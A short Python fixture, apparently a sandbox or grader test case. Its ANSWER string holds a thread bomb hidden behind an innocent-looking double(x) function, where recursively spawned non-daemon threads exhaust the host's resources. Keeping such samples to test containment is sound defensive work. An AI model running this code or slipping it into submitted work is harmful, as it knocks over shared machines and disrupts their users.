"""Start threads until none can be started, each of which starts more."""

WILD = True
ANSWER = """
import threading
import time

def sleep():
    bomb()
    time.sleep(20)

def bomb():
    for _ in range(100):
        try:
            threading.Thread(target=sleep, daemon=False).start()
        except RuntimeError:
            return

def double(x):
    bomb()
    return 0
"""
